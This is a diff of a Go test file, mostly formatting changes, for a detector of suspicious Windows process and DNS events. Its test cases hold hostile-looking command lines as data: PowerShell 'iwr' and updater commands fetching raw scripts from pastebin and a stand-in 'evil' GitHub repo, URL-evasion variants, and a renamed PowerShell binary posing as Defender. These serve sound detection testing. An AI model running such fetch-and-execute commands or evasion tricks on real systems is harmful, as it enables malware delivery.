@@ -287,14 +287,18 @@ func TestDetector(t *testing.T) {
 		},
 		{
 			name: "github raw path", reason: "/raw/ comes after /owner/repo/ on github.com",
-			ev:   Event{EventCode: b("1"), Image: b(`C:\x\updater.exe`), CommandLine: b("updater.exe https://github.com/u/r/releases/download/v1/p.exe")},
+			ev:    Event{EventCode: b("1"), Image: b(`C:\x\updater.exe`), CommandLine: b("updater.exe https://github.com/u/r/releases/download/v1/p.exe")},
 			check: func(t *testing.T, r *Result) { require.True(t, r.RawContent); require.True(t, r.Pass) },
 		},
 		{
 			name: "raw content on a later host", reason: "an innocent first URL does not hide a raw fetch after it",
 			ev: Event{EventCode: b("1"), Image: b(`C:\x\updater.exe`),
 				CommandLine: b("updater.exe --home https://github.com/acme/tool --get https://raw.githubusercontent.com/evil/x/main/p.ps1")},
-			check: func(t *testing.T, r *Result) { require.Equal(t, "github", r.Category); require.True(t, r.RawContent); require.True(t, r.Pass) },
+			check: func(t *testing.T, r *Result) {
+				require.Equal(t, "github", r.Category)
+				require.True(t, r.RawContent)
+				require.True(t, r.Pass)
+			},
 		},
 		{
 			name: "renamed binary is never allowlisted", reason: "a copy of PowerShell named MsMpEng.exe does not get Defender's rule",
@@ -310,12 +314,12 @@ func TestDetector(t *testing.T) {
 		},
 		{
 			name: "robocopy /e", reason: "a path containing PowerShell does not make robocopy's /e an encoded command",
-			ev:   Event{EventCode: b("1"), Image: b(`C:\Windows\System32\Robocopy.exe`), CommandLine: b(`robocopy C:\Windows\System32\WindowsPowerShell\Modules D:\bak /e /copyall`)},
+			ev:    Event{EventCode: b("1"), Image: b(`C:\Windows\System32\Robocopy.exe`), CommandLine: b(`robocopy C:\Windows\System32\WindowsPowerShell\Modules D:\bak /e /copyall`)},
 			check: func(t *testing.T, r *Result) { require.False(t, r.Encoded) },
 		},
 		{
 			name: "xcopy /e before a powershell folder", reason: "only arguments after the PowerShell invocation are its parameters",
-			ev:   Event{EventCode: b("1"), Image: b(`C:\Windows\System32\cmd.exe`), CommandLine: b(`cmd.exe /c xcopy /e C:\scripts\powershell D:\backup`)},
+			ev:    Event{EventCode: b("1"), Image: b(`C:\Windows\System32\cmd.exe`), CommandLine: b(`cmd.exe /c xcopy /e C:\scripts\powershell D:\backup`)},
 			check: func(t *testing.T, r *Result) { require.False(t, r.Encoded) },
 		},
 		{
@@ -326,17 +330,20 @@ func TestDetector(t *testing.T) {
 		},
 		{
 			name: "backslash url", reason: "https:\\pastebin.com\\raw\\x is read as a URL by .NET and browsers",
-			ev:   Event{EventCode: b("1"), Image: b(`C:\x\powershell.exe`), CommandLine: b(`powershell iwr https:\\pastebin.com\raw\x`)},
+			ev:    Event{EventCode: b("1"), Image: b(`C:\x\powershell.exe`), CommandLine: b(`powershell iwr https:\\pastebin.com\raw\x`)},
 			check: func(t *testing.T, r *Result) { require.Equal(t, "pastebin", r.Category); require.True(t, r.RawContent) },
 		},
 		{
 			name: "fully qualified url", reason: "pastebin.com./raw/x",
-			ev:   Event{EventCode: b("1"), Image: b(`C:\x\powershell.exe`), CommandLine: b(`powershell iwr https://pastebin.com./raw/x`)},
-			check: func(t *testing.T, r *Result) { require.True(t, r.RawContent); require.Equal(t, "https://pastebin.com./raw/x", string(r.URL)) },
+			ev: Event{EventCode: b("1"), Image: b(`C:\x\powershell.exe`), CommandLine: b(`powershell iwr https://pastebin.com./raw/x`)},
+			check: func(t *testing.T, r *Result) {
+				require.True(t, r.RawContent)
+				require.Equal(t, "https://pastebin.com./raw/x", string(r.URL))
+			},
 		},
 		{
 			name: "shared infrastructure in dns", reason: "not-evidence domains name nothing in any field",
-			ev:   Event{EventCode: b("22"), Image: b(`C:\x\powershell.exe`), QueryName: b("d1a2b3c4.cloudfront.net")},
+			ev:    Event{EventCode: b("22"), Image: b(`C:\x\powershell.exe`), QueryName: b("d1a2b3c4.cloudfront.net")},
 			check: func(t *testing.T, r *Result) { require.Empty(t, r.Category) },
 		},
 		{
